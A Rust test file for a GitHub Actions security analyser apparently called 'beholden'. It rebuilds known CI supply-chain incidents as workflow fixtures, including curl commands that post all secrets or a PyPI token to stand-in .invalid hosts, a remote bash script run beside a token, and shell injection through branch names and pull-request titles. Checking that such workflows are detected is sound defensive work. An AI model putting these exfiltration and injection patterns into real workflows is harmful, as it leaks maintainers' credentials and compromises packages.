//! The shapes of known incidents show up in what is granted, and quiet neighbours stay quiet.

use beholden::domain::IdentityKind;
use beholden::power::{self, Powers, Trigger, subtract};

use crate::power::shown::{job, lines, many, named, one, steps};

const CI: &str = ".github/workflows/ci.yml";

fn nothing() -> Powers {
    Powers::default()
}

#[test]
fn i01_a_remote_script_beside_secrets() {
    let powers = one(&steps(
        "push",
        "- run: bash <(curl -s https://codecov.invalid/bash)\n  env: {CODECOV_TOKEN: '${{ secrets.CODECOV_TOKEN }}'}",
    ));
    let found = lines(named(&powers, "build"));
    assert!(found.contains("code https://codecov.invalid/bash Floating"), "{found:?}");
    assert!(found.contains("secret CODECOV_TOKEN"));
}

#[test]
fn i04_a_workflow_that_posts_secrets_on_every_push() {
    let powers = one(&steps(
        "push",
        "- run: curl -X POST -d '${{ toJSON(secrets) }}' https://collect.invalid/",
    ));
    assert!(lines(named(&powers, "build")).contains("all to collect.invalid"));
}

#[test]
fn i05_shell_text_in_a_branch_name_and_a_poisoned_cache() {
    let action = "inputs: {}\nruns:\n  using: composite\n  steps:\n    - run: git pull origin ${{ github.head_ref || github.ref }}\n      shell: bash\n";
    let format = steps("[pull_request_target, push]", "- uses: ./format");
    let publish = job("push", "steps:\n  - uses: actions/setup-python@v5\n    with: {cache: pip}\n  - uses: pypa/gh-action-pypi-publish@release/v1\n    with: {password: '${{ secrets.PYPI_TOKEN }}'}").replace("build:", "publish:");
    let powers = many(&[
        (CI, &format),
        ("format/action.yml", action),
        (".github/workflows/publish.yml", &publish),
    ]);
    let found = lines(named(&powers, "build"));
    assert!(found.contains("text github.head_ref executed"), "{found:?}");
    let found = lines(named(&powers, "publish"));
    assert!(found.iter().any(|line| line.starts_with("cache of")), "{found:?}");
}

#[test]
fn i11_a_title_pasted_into_a_here_document_with_a_write_token() {
    let check = "on: {pull_request_target: {types: [opened, edited]}}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat <<EOF > title.txt\n          ${{ github.event.pull_request.title }}\n          EOF\n";
    let tree = [(CI, check)].into_iter().collect();
    let ground = power::Ground {
        default_token: Some(power::DefaultToken::Write),
        ..crate::power::shown::public()
    };
    let powers = power::of(&tree, &ground);
    let build = named(&powers, "build");
    let found = lines(build);
    for line in [
        "text github.event.pull_request.title executed",
        "token contents: Write",
        "on pull_request_target: Anyone",
    ] {
        assert!(found.contains(line), "{line}: {found:?}");
    }
    assert_eq!(
        crate::power::shown::line_of(build, "text github.event.pull_request.title executed"),
        8
    );
}

#[test]
fn i12_a_new_workflow_with_an_identity_token() {
    let powers = one(&steps("push", "- run: 'true'")
        .replace("permissions: {}", "permissions: {id-token: write}"));
    let difference = subtract(&nothing(), &powers);
    assert!(difference.added[0].power.may_write());
}

#[test]
fn i13_a_secret_gains_a_second_reader() {
    let publish = steps(
        "release",
        "- run: twine upload\n  env: {TWINE_PASSWORD: '${{ secrets.PYPI_API_TOKEN }}'}",
    );
    let thief = "name: Github Actions Security\non: push\njobs:\n  send:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s -X POST -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}' https://bold.invalid/\n";
    let base = many(&[(".github/workflows/publish.yml", &publish)]);
    let head = many(&[
        (".github/workflows/publish.yml", &publish),
        (".github/workflows/github_actions_security.yml", thief),
    ]);
    let difference = subtract(&base, &head);
    assert_eq!(difference.added.len(), 1);
    let found = lines(&difference.added[0]);
    assert!(
        found.contains("secret PYPI_API_TOKEN") && found.contains("PYPI_API_TOKEN to bold.invalid")
    );
}

#[test]
fn i14_all_secrets_to_a_catcher_and_to_the_log() {
    let worm = steps(
        "push",
        "- run: |\n    DATA=\"${{ toJSON(secrets) }}\"\n    curl -d \"$DATA\" https://webhook.invalid/x\n    echo \"$DATA\" | base64 | base64",
    );
    let found = lines(named(&one(&worm), "build"));
    assert!(
        found.contains("all to webhook.invalid") && found.contains("all to the log"),
        "{found:?}"
    );
}

#[test]
fn i17_an_action_at_a_tag_receives_a_token_and_secrets() {
    let scan = steps(
        "push",
        "- uses: aquasecurity/trivy-action@0.28.0\n  with: {token: '${{ secrets.BOT_PAT }}'}",
    )
    .replace("permissions: {}", "permissions: {id-token: write}");
    let found = lines(named(&one(&scan), "build/aquasecurity/trivy-action"));
    for line in ["code aquasecurity/trivy-action Tag", "secret BOT_PAT", "token id-token: Write"] {
        assert!(found.contains(line), "{line}: {found:?}");
    }
}

#[test]
fn i18_files_that_a_privileged_trigger_executes_are_listed() {
    let ci = steps(
        "pull_request_target",
        "- uses: actions/checkout@v4\n  with: {ref: '${{ github.event.pull_request.head.sha }}'}\n- run: |\n    npm ci\n    pytest\n    make\n  env: {AWS: '${{ secrets.AWS }}'}",
    );
    let powers = many(&[
        (CI, &ci),
        ("package.json", "{}"),
        ("conftest.py", ""),
        ("Makefile", ""),
        ("src/a.py", ""),
    ]);
    let build = named(&powers, "build");
    let files: Vec<_> = build.files.iter().map(|file| file.raw()).collect();
    assert_eq!(files, ["Makefile", "conftest.py", "package.json"]);
    assert!(lines(build).contains("ref ${{ github.event.pull_request.head.sha }} executed"));
}

#[test]
fn a_label_workflow_without_contents_stays_quiet() {
    let labeler = "on: pull_request_target\npermissions: {contents: read, pull-requests: write}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/labeler@v5\n";
    let powers = one(labeler);
    let build = named(&powers, "build");
    assert!(
        build.power.taints.is_empty()
            && build.power.secrets.is_empty()
            && build.power.egress.is_empty()
    );
    assert_eq!(powers.grants().len(), 1, "GitHub's own action is nobody else");
}

#[test]
fn an_update_by_a_dependency_bot_grants_nothing() {
    let ci = steps(
        "push",
        "- uses: octo-org/act@v1.2.3\n- uses: actions/checkout@v4\n- run: cargo test",
    );
    let bumped = ci.replace("v1.2.3", "v1.2.4").replace("checkout@v4", "checkout@v5");
    let difference = subtract(&one(&ci), &one(&bumped));
    assert!(!difference.grants());
    assert_eq!(difference.referred.len(), 2, "the job and the action");
}

#[test]
fn an_ordinary_test_workflow_is_idle() {
    let ci = "on: [push, pull_request]\npermissions: {contents: read}\njobs:\n  build:\n    runs-on: ${{ matrix.os }}\n    strategy: {matrix: {os: [ubuntu-latest, macos-latest]}}\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n        with: {cache: npm}\n      - run: npm ci\n      - run: npm test -- --grep '${{ github.ref_name }}'\n";
    let powers = one(ci);
    let build = named(&powers, "build");
    assert!(!build.power.is_privileged(), "{:?}", lines(build));
    assert!(powers.unknowns().is_empty() && powers.grants().len() == 1);
    assert!(build.power.triggers.contains_key(&Trigger::new(Trigger::FORK)));
    assert_eq!(build.subject.kind, IdentityKind::Workflow);
}
